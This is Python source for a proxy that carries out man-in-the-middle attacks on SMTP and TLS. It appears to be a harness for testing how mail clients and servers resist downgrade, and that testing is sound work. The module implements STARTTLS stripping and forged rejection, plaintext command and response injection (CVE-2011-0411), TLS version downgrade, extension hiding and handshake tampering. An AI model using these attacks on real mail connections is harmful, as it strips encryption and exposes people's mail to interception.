"""What a man on the path does to an SMTP session that he forwards as two TCP connections.

rewriter.py plays these beside one of the ends, path/proxy.py between them. ATTACKS is the list.
"""
import re
import select
import socket
import struct


def strip(text):
    """Removes STARTTLS from an EHLO reply and repairs its last line."""
    lines = [l for l in text.split(b"\r\n") if not re.fullmatch(rb"250[- ]STARTTLS", l)]
    if len(lines) > 1 and lines[-1] == b"" and lines[-2].startswith(b"250-"):
        lines[-2] = b"250 " + lines[-2][4:]
    return b"\r\n".join(lines)


def mask(text):
    """What a firewall with SMTP inspection makes of a banner and of keywords that it does not know."""
    if text.startswith(b"220 ") and b"ESMTP" in text:
        return re.sub(rb"[^ 20\r\n]", b"*", text)
    return re.sub(rb"(?m)^(250[- ])(STARTTLS|CHUNKING|SMTPUTF8)\r", lambda m: m[1] + b"X" * (len(m[2]) - 1) + b"A\r", text)


class Path:
    """What an attack may do: hooks get the octets of one read and give what is passed on."""

    def __init__(self, client, server, options=None):
        self.client, self.server = client, server
        self.options = options or {}
        self.tls = False

    def from_client(self, text):
        """Towards the server."""
        return text

    def from_server(self, text):
        """Towards the client."""
        return text

    def tls_from_client(self, octets):
        """Records of TLS, towards the server."""
        return octets

    def tls_from_server(self, octets):
        """Records of TLS, towards the client."""
        return octets


class Strip(Path):
    """STARTTLS is removed from the EHLO reply."""

    def from_server(self, text):
        return strip(text)


class Mask(Path):
    """Banner and keywords are overwritten in place."""

    def from_server(self, text):
        return mask(text)


class Reject500(Path):
    """STARTTLS is answered by the man on the path, and the server never sees it."""
    reply = b"500 Unsupported command.\r\n"

    def from_client(self, text):
        if text.upper() != b"STARTTLS\r\n":
            return text
        self.client.sendall(self.reply)
        return b""


class Reject502(Reject500):
    """... as not implemented."""
    reply = b"502 5.5.1 Command not implemented\r\n"


class Reject454(Reject500):
    """... as a passing trouble."""
    reply = b"454 4.7.0 TLS not available due to temporary reason\r\n"


class CloseAtStarttls(Path):
    """Both connections are closed when the client says STARTTLS, which the server never sees."""

    def from_client(self, text):
        if text.upper() == b"STARTTLS\r\n":
            raise ConnectionAbortedError
        return text


class RefuseEhlo(Reject500):
    """EHLO is answered 502, so that the client falls back to HELO."""

    def from_client(self, text):
        if not text.upper().startswith(b"EHLO"):
            return text
        self.client.sendall(b"502 5.5.1 Command not implemented\r\n")
        return b""


class Mangle(Path):
    """STARTTLS is overwritten on its way to the server."""

    def from_client(self, text):
        return text.replace(b"STARTTLS\r\n", b"XXXXXXXX\r\n")


class Swallow(Path):
    """The server is let into TLS, and the client is told that there is none."""
    asked = False

    def from_client(self, text):
        self.asked = self.asked or text.upper() == b"STARTTLS\r\n"
        return text

    def from_server(self, text):
        if self.asked and text.startswith(b"220 "):
            self.asked = False
            return b"454 4.7.0 TLS not available due to temporary reason\r\n"
        return text


class InjectCommand(Path):
    """A command is put behind STARTTLS, in clear, for the server to read inside TLS (CVE-2011-0411)."""

    def from_client(self, text):
        return text.replace(b"STARTTLS\r\n", b"STARTTLS\r\nEHLO injected.example\r\n")


class InjectResponse(Path):
    """A reply is put behind the 220, in clear, for the client to read inside TLS."""

    def from_server(self, text):
        ready = text.startswith(b"220 ") and b"ESMTP" not in text
        return text + b"250-injected.example\r\n250 AUTH PLAIN\r\n" if ready else text


def extensions(hello):
    """(place, type, length) of each extension in a record with a ClientHello."""
    at = 9 + 2 + 32  # record and handshake header, version, random
    at += 1 + hello[at]
    at += 2 + int.from_bytes(hello[at:at + 2], "big")
    at += 1 + hello[at]
    end = at + 2 + int.from_bytes(hello[at:at + 2], "big")
    at += 2
    while at + 4 <= min(end, len(hello)):
        length = int.from_bytes(hello[at + 2:at + 4], "big")
        yield at, int.from_bytes(hello[at:at + 2], "big"), length
        at += 4 + length


def is_hello(octets, kind):
    """A record that begins with this hello: 1 the client's, 2 the server's."""
    return len(octets) > 43 and octets[0] == 22 and octets[5] == kind


def versions(hello):
    """The TLS versions that a ClientHello offers, as numbers: 0x0304 is TLS 1.3."""
    for at, kind, length in extensions(hello):
        if kind == 43:
            offered = hello[at + 5:at + 4 + length]
            return {int.from_bytes(offered[n:n + 2], "big") for n in range(0, len(offered), 2)}
    return {int.from_bytes(hello[9:11], "big")}


class FailHellos(Path):
    """A connection whose ClientHello offers `floor=1.2` or better is ended, `how=close|rst|alert`: until a worse one comes, or clear.

    The hello does not reach the server. The alert is handshake_failure in the server's name.
    """
    ALERT = bytes([21, 3, 3, 0, 2, 2, 40])
    FLOORS = {"1.0": 0x0301, "1.1": 0x0302, "1.2": 0x0303, "1.3": 0x0304, "any": 0}

    def ended(self, octets):
        """Does this hello end the connection?"""
        grease = {v for v in versions(octets) if v & 0x0F0F == 0x0A0A}
        return max(versions(octets) - grease) >= self.FLOORS[self.options.get("floor", "1.2")]

    def tls_from_client(self, octets):
        if not is_hello(octets, 1) or not self.ended(octets):
            return octets
        how = self.options.get("how", "close")
        if how == "alert":
            self.client.sendall(self.ALERT)
        if how == "rst":
            for side in (self.client, self.server):
                side.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        raise ConnectionAbortedError


class CloseAtHello(FailHellos):
    """Both connections are closed at any ClientHello."""

    def ended(self, octets):
        return True


class ResetAtHello(CloseAtHello):
    """Both connections are reset at any ClientHello."""

    def __init__(self, client, server, options=None):
        super().__init__(client, server, (options or {}) | {"how": "rst"})


class Hide(Path):
    """One extension of the ClientHello becomes one that nobody knows."""
    extension = 0

    def tls_from_client(self, octets):
        if is_hello(octets, 1):
            for at, kind, _ in extensions(octets):
                if kind == self.extension:
                    return octets[:at] + b"\x8a\x8a" + octets[at + 2:]
        return octets


class HideTls13(Hide):
    """supported_versions is hidden: the server believes that the client is of TLS 1.2 (RFC 8446 4.1.3)."""
    extension = 43


class HideTls12(HideTls13):
    """... and the version that is left becomes TLS 1.1."""

    def tls_from_client(self, octets):
        octets = super().tls_from_client(octets)
        return octets[:9] + b"\x03\x02" + octets[11:] if is_hello(octets, 1) else octets


class HideEms(Hide):
    """extended_master_secret is hidden: both sides go on, and their Finished differ."""
    extension = 23


class OtherSuite(Path):
    """The ServerHello's suite becomes TLS_RSA_WITH_3DES_EDE_CBC_SHA, which today's clients do not offer."""

    def tls_from_server(self, octets):
        if not is_hello(octets, 2):
            return octets
        at = 9 + 2 + 32
        at += 1 + octets[at]
        return octets[:at] + b"\x00\x0a" + octets[at + 2:]


class OtherRandom(Path):
    """One bit of the client's random is turned: what the server signs is not what the client said."""

    def tls_from_client(self, octets):
        return octets[:20] + bytes([octets[20] ^ 1]) + octets[21:] if is_hello(octets, 1) else octets


ATTACKS = {"pass": Path, "strip": Strip, "mask": Mask, "reject-500": Reject500, "refuse-ehlo": RefuseEhlo, "mangle": Mangle,
           "swallow": Swallow, "inject-command": InjectCommand, "inject-response": InjectResponse, "hide-tls13": HideTls13,
           "hide-tls12": HideTls12, "hide-ems": HideEms, "other-suite": OtherSuite, "other-random": OtherRandom,
           "reject-502": Reject502, "reject-454": Reject454, "close-at-starttls": CloseAtStarttls, "fail-hellos": FailHellos,
           "close-at-clienthello": CloseAtHello, "rst-at-clienthello": ResetAtHello}


def is_tls(octets):
    """Is it a record of TLS?"""
    return len(octets) > 2 and octets[0] in (20, 21, 22, 23) and octets[1] == 3


def pump(path):
    """Passes octets on until both sides have ended; who closes one direction only still gets the other."""
    sides = {path.client: (path.server, path.from_client, path.tls_from_client),
             path.server: (path.client, path.from_server, path.tls_from_server)}
    while sides:
        for here in select.select(list(sides), [], [])[0]:
            there, hook, tls_hook = sides[here]
            octets = here.recv(65536)
            if not octets:
                there.shutdown(socket.SHUT_WR)
                del sides[here]
                continue
            path.tls = path.tls or is_tls(octets)
            there.sendall((tls_hook if path.tls else hook)(octets))

